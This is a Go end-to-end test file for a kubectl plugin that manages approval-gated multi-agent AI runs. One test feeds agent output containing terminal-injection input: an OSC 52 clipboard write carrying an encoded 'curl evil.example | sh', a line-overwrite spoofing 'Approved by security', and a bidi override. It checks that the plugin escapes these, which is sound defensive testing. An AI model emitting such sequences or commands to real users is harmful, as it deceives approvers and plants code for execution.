package e2e

import (
	"encoding/json"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

var _ = Describe("kubectl baton", Ordered, func() {
	const ns = "plugin"
	var alice, carol string
	BeforeAll(func() {
		kubectl("create", "namespace", ns)
		kubectl("apply", "-f", filepath.Join(root, "config", "rbac", "approver_role.yaml"))
		kubectl("create", "role", "run-user", "-n", ns, "--verb=get,list,watch,patch,create", "--resource=agentruns.agents.baton.dev")
		kubectl("create", "rolebinding", "run-users", "-n", ns, "--role=run-user", "--user=alice")
		kubectl("create", "rolebinding", "approvers", "-n", ns, "--clusterrole=approver", "--user=alice")
		alice = filepath.Join(stateDir, "kubeconfig-alice")
		carol = filepath.Join(stateDir, "kubeconfig-bob") // no rights in this namespace
		kubectl("apply", "-n", ns, "-f", sample("approvals-pipeline.yaml"))
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=AwaitingApproval", "--timeout=60s", "agentrun/vendor-review")
	})

	baton := func(config string, args ...string) (string, error) {
		return kubectlAs(config, append([]string{"baton", "-n", ns}, args...)...)
	}

	It("describes a waiting run's timeline and says how to decide", func() {
		out, err := baton(alice, "describe", "vendor-review")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(ContainSubstring("Phase:        AwaitingApproval"))
		Expect(out).To(MatchRegexp(`(?m)^\s+1\s+planner\s+gmail\s+Handoff\s+300\s+`))
		Expect(out).To(ContainSubstring("Waiting at gate plan"))
		Expect(out).To(ContainSubstring("kubectl baton approve vendor-review plan"))
		Expect(out).NotTo(ContainSubstring("transcript not read"))
	})

	It("approves, sends back with feedback, and approves again, as the same annotations", func() {
		out, err := baton(alice, "approve", "vendor-review", "plan", "--feedback", "go ahead")
		Expect(err).NotTo(HaveOccurred(), out)
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.pendingApproval.gate}=final", "--timeout=60s", "agentrun/vendor-review")
		out, err = baton(alice, "reject", "vendor-review", "final", "--revise", "crm", "--feedback", "check the disputes")
		Expect(err).NotTo(HaveOccurred(), out)
		Eventually(func() string {
			return jsonpath("agentrun", "vendor-review", ns, "{range .status.approvals[*]}{.decision} {.gate} {.by}{\"\\n\"}{end}")
		}, time.Minute, 200*time.Millisecond).Should(Equal("Approved plan alice\nRejected final alice\n"))
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.pendingApproval.gate}=final", "--timeout=60s", "agentrun/vendor-review")
		out, err = baton(alice, "approve", "vendor-review", "final")
		Expect(err).NotTo(HaveOccurred(), out)
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Succeeded", "--timeout=60s", "agentrun/vendor-review")
	})

	It("prints the transcript in full, as text, JSON and YAML, for one step or all", func() {
		out, err := baton(alice, "transcript", "vendor-review")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(ContainSubstring("=== step 1: planner (Scripted)"))
		Expect(out).To(ContainSubstring("feedback from alice:\n  check the disputes"))

		out, err = baton(alice, "transcript", "vendor-review", "-o", "json")
		Expect(err).NotTo(HaveOccurred(), out)
		var page struct {
			Records []struct {
				Kind string
				Step int32
			}
		}
		Expect(json.Unmarshal([]byte(out), &page)).To(Succeed())
		steps := jsonpath("agentrun", "vendor-review", ns, "{.status.stepCount}")
		stepRecords := 0
		for _, r := range page.Records {
			if r.Kind == "step" {
				stepRecords++
			}
		}
		Expect(strings.TrimSpace(steps)).To(Equal(itoa(stepRecords)))

		out, err = baton(alice, "transcript", "vendor-review", "--step", "1", "-o", "yaml")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(ContainSubstring("step: 1"))
		Expect(out).NotTo(ContainSubstring("step: 2"))
	})

	It("follows a run's steps as they happen", func() {
		kubectl("apply", "-n", ns, "-f", manifest("slow.yaml", `apiVersion: agents.baton.dev/v1alpha1
kind: AgentConfig
metadata: {name: slow}
spec:
  entrypoint: a
  agents:
  - {name: a, handoffs: [b], script: [{output: "thinking", handoff: b, delay: 400ms}, {output: "thinking again", handoff: b, delay: 400ms}]}
  - {name: b, handoffs: [a], terminator: true, script: [{output: "checked", handoff: a, delay: 400ms}, {output: "final answer", delay: 400ms}]}
---
apiVersion: agents.baton.dev/v1alpha1
kind: AgentRun
metadata: {name: slow}
spec: {configRef: {name: slow}}
`))
		out, err := baton(alice, "logs", "slow", "-f")
		Expect(err).NotTo(HaveOccurred(), out)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		Expect(lines).To(HaveLen(5), out)
		Expect(lines[0]).To(MatchRegexp(`step 1\s+a\s+hand off to b`))
		Expect(lines[3]).To(MatchRegexp(`step 4\s+b\s+answer`))
		Expect(lines[4]).To(Equal("run ended: Succeeded Completed"))
	})

	It("describes every step of a run of more than ten handoffs from the transcript, and its last ones with --tail", func() {
		kubectl("apply", "-n", ns, "-f", sample("helpdesk.yaml"))
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Succeeded", "--timeout=120s", "agentrun/ticket-1234")
		Expect(jsonpath("agentrun", "ticket-1234", ns, "{.status.stepCount} {.status.handoffSequence[0].step}")).
			To(Equal("12 3"), "status keeps the latest 10 steps: the rest are only in the transcript")

		out, err := baton(alice, "describe", "ticket-1234")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(timelineSteps(out)).To(Equal(stepRange(1, 12)), out)
		Expect(out).To(MatchRegexp(`(?m)^  1\s+orchestrator\s+memory\s+Handoff\s+120\s+\S+\s+check memory for a cached resolution$`))
		Expect(out).To(MatchRegexp(`(?m)^  12\s+ticketing\s+\(end\)\s+`))
		Expect(out).NotTo(ContainSubstring("earlier steps"))
		Expect(out).NotTo(ContainSubstring("transcript not read"))

		out, err = baton(alice, "describe", "ticket-1234", "--tail", "4")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(timelineSteps(out)).To(Equal(stepRange(9, 12)), out)
		Expect(out).To(ContainSubstring("Timeline:\n  ... (8 earlier steps not shown: --tail 0 shows them)\n  STEP "))

		out, err = baton(alice, "handoffs", "ticket-1234")
		Expect(err).NotTo(HaveOccurred(), out)
		lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
		Expect(lines).To(HaveLen(12), out)
		Expect(lines[0]).To(Equal("  1. orchestrator -> memory: check memory for a cached resolution"))
		Expect(lines[11]).To(HavePrefix("  12. ticketing -> (end): "))
	})

	It("shows the control characters a model wrote escaped in every command, and exactly in JSON", func() {
		// An OSC 52 clipboard write, a screen clear, a CR that would overwrite the line, a C1 CSI
		// and a bidi override: in a model's output, a handoff reason and a tool call's arguments.
		const output = "Plan ready.\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\rApproved by security\u009b0m \u202eevil"
		kubectl("apply", "-n", ns, "-f", manifest("hostile.yaml", `apiVersion: agents.baton.dev/v1alpha1
kind: AgentConfig
metadata: {name: hostile}
spec:
  entrypoint: a
  agents:
  - name: a
    handoffs: [b]
    script: [{output: "Plan ready.\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\e[2J\rApproved by security\x9b0m \u202eevil", handoff: b, reason: "\e[31mtrust me\r"}]
  - {name: b, terminator: true, script: [{output: "done"}]}
---
apiVersion: agents.baton.dev/v1alpha1
kind: AgentRun
metadata: {name: hostile}
spec: {configRef: {name: hostile}, input: "review"}
`))
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Succeeded", "--timeout=60s", "agentrun/hostile")
		for _, args := range [][]string{{"transcript", "hostile"}, {"logs", "hostile"}, {"describe", "hostile"}, {"handoffs", "hostile"}} {
			out, err := baton(alice, args...)
			Expect(err).NotTo(HaveOccurred(), out)
			Expect(terminalControl.FindString(out)).To(BeEmpty(), "kubectl baton %s printed a control character raw:\n%q", strings.Join(args, " "), out)
			Expect(out).To(ContainSubstring(`\u001b[31mtrust me`), "kubectl baton %s does not show the reason's escape", strings.Join(args, " "))
		}
		out, err := baton(alice, "transcript", "hostile", "-o", "yaml")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(terminalControl.FindString(out)).To(BeEmpty(), "-o yaml printed a control character raw:\n%q", out)
		Expect(out).To(ContainSubstring(`reason: "\e[31mtrust me\r"`), "YAML's own escapes")

		out, err = baton(alice, "transcript", "hostile")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(ContainSubstring(`Plan ready.\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\u000dApproved by security\u009b0m \u202eevil`))

		out, err = baton(alice, "transcript", "hostile", "--step", "1", "-o", "json")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(terminalControl.FindString(out)).To(BeEmpty(), "-o json printed a control character raw:\n%q", out)
		var page struct {
			Records []struct {
				Kind string
				Body struct{ Output, Reason string }
			}
		}
		Expect(json.Unmarshal([]byte(out), &page)).To(Succeed(), out)
		Expect(page.Records).NotTo(BeEmpty())
		Expect(page.Records[0].Body.Output).To(Equal(output), "-o json is the output exactly")
		Expect(page.Records[0].Body.Reason).To(Equal("\x1b[31mtrust me\r"))
	})

	It("shows the whole arguments of a tool call held at its gate, past the 4 KiB status keeps of them", func() {
		long, end := holdLongToolCall(ns, "filer.yaml")

		out, err := baton(alice, "describe", "filer")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(ContainSubstring("clerk asks to call crm/file (step 1, call 1) with:\n    {\n      \"note\": \"" + long + end + "\"\n    }\n"))
		Expect(out).NotTo(ContainSubstring("These arguments are cut"))

		out, err = baton(alice, "reject", "filer", "tool/crm/file", "--feedback", "not this account")
		Expect(err).NotTo(HaveOccurred(), out)
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Succeeded", "--timeout=60s", "agentrun/filer")
	})

	It("answers someone who may not get the run as the API server would", func() {
		out, err := baton(carol, "transcript", "vendor-review")
		Expect(err).To(HaveOccurred())
		Expect(out).To(ContainSubstring(`the transcript API answered 403: agentruns.agents.baton.dev "vendor-review" is forbidden: User "bob" cannot get resource "agentruns"`))
	})

	It("retries a run as a new run of the same spec, and cancels one", func() {
		// A run whose one step takes an hour: its retry is still at work when it is cancelled,
		// however slowly the plugin starts.
		kubectl("apply", "-n", ns, "-f", manifest("stuck.yaml", `apiVersion: agents.baton.dev/v1alpha1
kind: AgentConfig
metadata: {name: stuck}
spec:
  entrypoint: a
  agents:
  - {name: a, terminator: true, script: [{output: "at last", delay: 1h}]}
---
apiVersion: agents.baton.dev/v1alpha1
kind: AgentRun
metadata: {name: stuck}
spec: {configRef: {name: stuck}}
`))
		DeferCleanup(func() { _, _ = baton(alice, "cancel", "stuck") })
		out, err := baton(alice, "retry", "stuck")
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(out).To(MatchRegexp(`agentrun.agents.baton.dev/stuck-retry-\w+ created`))
		name := strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(out), "agentrun.agents.baton.dev/"), " created")
		out, err = baton(alice, "cancel", name, "--reason", "enough")
		Expect(err).NotTo(HaveOccurred(), out)
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Cancelled", "--timeout=60s", "agentrun/"+name)
		Expect(jsonpath("agentrun", name, ns, "{.status.terminationMessage}")).To(ContainSubstring("enough"))

		By("retrying from a step: the steps before it are not taken again")
		out, err = baton(alice, "retry", "slow", "--from-step", "2")
		Expect(err).NotTo(HaveOccurred(), out)
		name = strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(out), "agentrun.agents.baton.dev/"), " created")
		kubectl("wait", "-n", ns, "--for=jsonpath={.status.phase}=Succeeded", "--timeout=60s", "agentrun/"+name)
		Expect(jsonpath("agentrun", name, ns, "{.status.stepCount} {.status.output}")).To(Equal("4 final answer"))
		out, err = baton(alice, "logs", name)
		Expect(err).NotTo(HaveOccurred(), out)
		Expect(strings.Split(strings.TrimSpace(out), "\n")).To(HaveLen(4), "two steps copied from slow, two taken")
	})
})

// terminalControl matches a character that can drive a terminal: C0 controls but newline and
// tab, DEL, C1 controls, bidi embeddings, overrides and isolates.
var terminalControl = regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{202a}-\x{202e}\x{2066}-\x{2069}]`)

// timelineSteps are the numbers of the steps kubectl baton describe's timeline shows.
func timelineSteps(out string) []string {
	_, timeline, _ := strings.Cut(out, "\nTimeline:\n")
	timeline, _, _ = strings.Cut(timeline, "\n\n")
	var steps []string
	for _, m := range regexp.MustCompile(`(?m)^  (\d+)\s`).FindAllStringSubmatch(timeline, -1) {
		steps = append(steps, m[1])
	}
	return steps
}

func stepRange(from, to int) []string {
	var out []string
	for i := from; i <= to; i++ {
		out = append(out, itoa(i))
	}
	return out
}

func itoa(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}
